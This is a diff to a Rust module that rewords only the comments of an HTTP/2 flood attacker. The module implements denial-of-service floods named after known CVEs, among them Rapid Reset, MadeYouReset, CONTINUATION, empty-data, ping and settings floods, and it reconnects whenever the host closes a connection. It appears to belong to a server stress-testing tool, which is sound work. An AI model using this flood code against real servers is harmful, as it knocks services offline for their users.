@@ -1,4 +1,4 @@
-//! One attacker: as many frames as the host takes, on a new connection where the last one was cut.
+//! An attacker that sends as many frames as the host takes, and opens a new connection when the host closes the last one.
 
 use std::io;
 use std::ops::AddAssign;
@@ -15,26 +15,26 @@ use super::frames::{
 
 #[derive(Debug, Clone, Copy)]
 pub enum Flood {
-    /// Requests that are taken back at once (CVE-2023-44487).
+    /// Requests that the attacker cancels at once (CVE-2023-44487).
     RapidReset,
-    /// Requests that the host has to take back, for what follows them is wrong (CVE-2025-8671).
+    /// Requests that the host has to cancel, because the next frame is wrong (CVE-2025-8671).
     MadeYouReset,
     /// A head that never ends (CVE-2024-27316).
     Continuation,
-    /// A head that never ends and says nothing.
+    /// A head that never ends, in frames without a field.
     EmptyContinuation,
     /// A body that never ends and has no bytes (CVE-2019-9518).
     EmptyData,
-    /// Each wants an answer (CVE-2019-9512).
+    /// Pings, each of which the host must answer (CVE-2019-9512).
     Ping,
-    /// Each wants an answer too (CVE-2019-9515).
+    /// Settings, each of which the host must acknowledge (CVE-2019-9515).
     Settings,
 }
 
-/// What an attacker saw.
+/// What an attacker counted.
 #[derive(Debug, Clone, Copy, Default)]
 pub struct Seen {
-    /// Frames that the system took from it.
+    /// Frames that the attacker could send.
     pub frames: usize,
     /// Connections that the host ended.
     pub cut: usize,
@@ -58,7 +58,7 @@ impl Flood {
         Flood::Settings,
     ];
 
-    /// Attacks until this moment.
+    /// Attacks until `until`.
     pub async fn attack(self, address: String, until: Instant) -> Seen {
         let mut seen = Seen::default();
         while Instant::now() < until {
@@ -67,13 +67,13 @@ impl Flood {
                 Ok(_cut) => seen.cut += 1,
                 Err(_elapsed) => return seen,
             }
-            // An attacker has only so many ports; without this they would end before the time does.
+            // The machine has a limited number of ports. Without this pause the attacker would run out of them too early.
             sleep(BETWEEN_CONNECTIONS).await;
         }
         seen
     }
 
-    /// Floods one connection until it is cut.
+    /// Floods one connection until the host closes it.
     async fn flood_one(self, address: &str, frames: &mut usize) -> io::Result<()> {
         let mut connection = TcpStream::connect(address).await?;
         let (mut reading, mut writing) = connection.split();
@@ -86,7 +86,7 @@ impl Flood {
                 *frames += count;
             }
         };
-        // Answers are taken, so that nothing but the flood itself holds the host up.
+        // The attacker reads answers, so that only the flood itself can block the host.
         let mut answers = vec![0; 1 << 16];
         let drain = async {
             while reading.read(&mut answers).await? > 0 {}
@@ -98,7 +98,7 @@ impl Flood {
         }
     }
 
-    /// What comes once.
+    /// The frames before the flood.
     fn first(self) -> Vec<u8> {
         match self {
             Flood::Continuation | Flood::EmptyContinuation => {
@@ -109,7 +109,7 @@ impl Flood {
         }
     }
 
-    /// A few frames of what comes again and again, and how many they are.
+    /// A few frames of the flood, and their number.
     fn batch(self, stream: &mut u32) -> (Vec<u8>, usize) {
         let mut batch = Vec::new();
         for _ in 0..IN_A_BATCH {
@@ -124,7 +124,7 @@ impl Flood {
                 Flood::Ping => frame(PING, 0, 0, b"pingping"),
                 Flood::Settings => frame(SETTINGS, 0, 0, &MAX_FRAME_SIZE),
             });
-            // Streams are those of a client, and begin anew with a connection.
+            // A client uses odd stream ids, which begin anew with each connection.
             *stream += 2;
         }
         (batch, IN_A_BATCH)
@@ -137,6 +137,6 @@ const IN_A_BATCH: usize = 50;
 /// The error code of RST_STREAM, and the increment of a WINDOW_UPDATE that has to have one.
 const CANCEL: [u8; 4] = [0, 0, 0, 8];
 const NOTHING: [u8; 4] = [0; 4];
-/// `SETTINGS_MAX_FRAME_SIZE` with the value that it has anyway.
+/// `SETTINGS_MAX_FRAME_SIZE` with its default value.
 const MAX_FRAME_SIZE: [u8; 6] = [0, 5, 0, 0, 0x40, 0];
 const BETWEEN_CONNECTIONS: Duration = Duration::from_millis(5);
